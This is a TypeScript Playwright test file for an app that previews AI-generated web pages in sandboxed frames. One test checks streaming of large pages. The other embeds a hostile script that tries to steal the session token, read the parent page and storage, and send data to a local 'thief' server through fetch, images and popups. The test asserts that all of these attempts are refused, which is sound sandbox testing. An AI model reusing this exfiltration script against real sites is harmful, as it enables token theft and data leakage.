// The application in a real browser: headless Chromium.

import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import process from 'node:process';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it, onTestFinished } from 'vitest';
import { startApp, type App } from './app.ts';
import { gatedModel, type GatedModel } from './gated-model.ts';

const FLAGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
];

/** Set to write the pictures of the documentation anew. */
const PICTURES = process.env['TREADLE_PICTURES'];

const profile = mkdtempSync(join(tmpdir(), 'treadle-chromium-'));
let browser: BrowserContext;

beforeAll(async () => {
  browser = await chromium.launchPersistentContext(profile, {
    executablePath: '/usr/bin/chromium',
    args: FLAGS,
    viewport: { width: 1100, height: 980 },
  });
});
afterAll(async () => {
  await browser.close();
  rmSync(profile, { recursive: true, force: true });
});

async function open(models: readonly GatedModel[]): Promise<{ readonly app: App; readonly page: Page }> {
  const app = await startApp({ models: () => models });
  const page = await browser.newPage();
  onTestFinished(async () => {
    await page.close();
    await app.close(0);
  });
  await page.goto(app.url);
  await page.fill('#token', app.token);
  await page.fill('#prompt', 'A page for a bakery.');
  await page.click('#generate');
  return { app, page };
}

/** The generated page of a variant: in a frame of the preview, which is a frame of ours. */
const preview = (page: Page, index: number) =>
  page.frameLocator(`[data-index="${index}"] > iframe`).frameLocator('iframe.shown');

const state = (page: Page, index: number, is: string) => page.locator(`[data-index="${index}"][data-state="${is}"]`);

async function picture(page: Page, name: string): Promise<void> {
  if (PICTURES === undefined) return;
  mkdirSync(PICTURES, { recursive: true });
  await page.screenshot({ path: join(PICTURES, `${name}.png`) });
}

const COLORS = ['#7a3b2e', '#2e5c7a', '#3d6b35', '#6a3d7a'];

/** A bakery's page of at least so many characters. */
function bakery(index: number, length: number): string {
  const row = (at: number): string =>
    `<li><b>Loaf ${at}</b> baked of rye, wheat and ${'a little patience, '.repeat(8)}every morning.</li>\n`;
  const head =
    `<!doctype html><html><head><style>body{font:16px Georgia;margin:0;padding:1.5rem}h1{background:${COLORS[index]};` +
    `color:white;padding:1rem;border-radius:${index * 8}px}</style></head><body><h1>Bakery ${index + 1}</h1><ul>\n`;
  let rows = '';
  for (let at = 1; head.length + rows.length < length; at += 1) rows += row(at);
  return `${head}${rows}</ul><p id="end">The end of ${index + 1}.</p></body></html>`;
}

it('shows four pages of 200 KB while they are written, and each is complete whatever the others do', async () => {
  const models = [0, 1, 2, 3].map((index) => gatedModel(`writer-${index + 1}`, bakery(index, 200_000), 100_000));
  const { page } = await open(models);
  for (const index of [0, 1, 2, 3]) {
    const frame = preview(page, index);
    await frame.getByText(`Bakery ${index + 1}`).waitFor();
    // Half of it is there, and no more.
    await frame.getByText('Loaf 400', { exact: true }).waitFor({ state: 'attached' });
    expect(await frame.locator('#end').count()).toBe(0);
  }
  await picture(page, 'streamed-file-writing');

  models[2]?.finish();
  await state(page, 2, 'complete').waitFor();
  await preview(page, 2).getByText('The end of 3.').waitFor({ state: 'attached' });
  expect(await page.locator('article[data-state]').count()).toBe(1);
  expect(await page.locator('[data-index="2"] .update').isEnabled()).toBe(true);
  expect(await page.locator('[data-index="0"] .update').isEnabled()).toBe(false);

  models[0]?.fail();
  await state(page, 0, 'error').waitFor();
  // The last good picture of it stays.
  await preview(page, 0).getByText('Bakery 1').waitFor();

  models[1]?.finish();
  models[3]?.finish();
  for (const index of [1, 3]) {
    await state(page, index, 'complete').waitFor();
    await preview(page, index)
      .getByText(`The end of ${index + 1}.`)
      .waitFor({ state: 'attached' });
  }
  expect(await page.locator('#generate').isEnabled()).toBe(true);
  await picture(page, 'streamed-file-complete');
}, 60_000);

it('lets a generated page reach neither the page around it, nor the token, nor the API', async () => {
  const stolen: string[] = [];
  const thief = createServer((request, response) => {
    stolen.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((resolve) => {
    thief.listen(0, '127.0.0.1', resolve);
  });
  onTestFinished(() => {
    thief.closeAllConnections();
    thief.close();
  });
  const elsewhere = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
  const hostile = `<!doctype html><html><body><h1>Innocent</h1><ul id="tries"></ul><p id="done"></p><script>
    const report = (name, result) => {
      const entry = document.createElement('li');
      entry.id = name;
      entry.textContent = result;
      document.getElementById('tries').append(entry);
    };
    const attempt = async (name, work) => {
      try { await work(); report(name, 'REACHED'); } catch (error) { report(name, 'refused'); }
    };
    const api = new URL(document.baseURI).origin;
    (async () => {
      // What it may do: without it, nothing below would say anything.
      await attempt('allowed', () => new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve; image.onerror = reject;
        image.src = 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>';
      }));
      await attempt('parent', () => parent.document.body.innerHTML);
      await attempt('top', () => top.document.getElementById('token').value);
      await attempt('navigate', () => { top.location.href = '${elsewhere}/top'; });
      await attempt('storage', () => localStorage.length);
      await attempt('cookie', () => document.cookie);
      await attempt('api', () => fetch(api + '/v1/sessions'));
      await attempt('elsewhere', () => fetch('${elsewhere}/fetch?' + location.href));
      await attempt('image', () => new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve; image.onerror = reject;
        image.src = '${elsewhere}/image';
      }));
      await attempt('socket', () => new Promise((resolve, reject) => {
        const socket = new WebSocket(api.replace('http', 'ws') + '/generate-code', ['treadle.v1']);
        socket.onopen = resolve; socket.onerror = reject;
      }));
      await attempt('popup', () => { if (!open('${elsewhere}/popup')) throw new Error('none'); });
      top.postMessage({ type: 'variantComplete', variantIndex: 3, html: 'FORGED', final: true }, '*');
      parent.postMessage({ html: '<h1>FORGED</h1>', final: true }, '*');
      document.getElementById('done').textContent = 'All tried.';
    })();
  </script></body></html>`;
  const models = [hostile, '<h1>Other</h1>', '<h1>Other</h1>', '<h1>Other</h1>'].map((html, index) =>
    gatedModel(`writer-${index + 1}`, html, index === 3 ? 0 : Infinity),
  );
  const { app, page } = await open(models);
  const frame = preview(page, 0);
  await frame.getByText('All tried.').waitFor();
  const tries = await frame.locator('#tries li').all();
  const results = await Promise.all(
    tries.map(async (entry) => [await entry.getAttribute('id'), await entry.textContent()]),
  );
  expect(Object.fromEntries(results)).toEqual({
    allowed: 'REACHED',
    parent: 'refused',
    top: 'refused',
    navigate: 'refused',
    storage: 'refused',
    cookie: 'refused',
    api: 'refused',
    elsewhere: 'refused',
    image: 'refused',
    socket: 'refused',
    popup: 'refused',
  });
  expect(stolen).toEqual([]);
  // Where it is, nothing has changed, and nobody believed its messages.
  expect(page.url()).toBe(`${app.url}/`);
  expect(await frame.getByText('Innocent').count()).toBe(1);
  expect(await page.locator('article[data-state]').count()).toBe(3);
  // The token is in no address that the browser has seen, and in nothing it keeps.
  const kept = await page.evaluate('JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])');
  expect(kept).toBe('[{},{},""]');
  expect(page.frames().some((each) => each.url().includes(app.token))).toBe(false);
  models[3]?.finish();
  await state(page, 3, 'complete').waitFor();
}, 60_000);
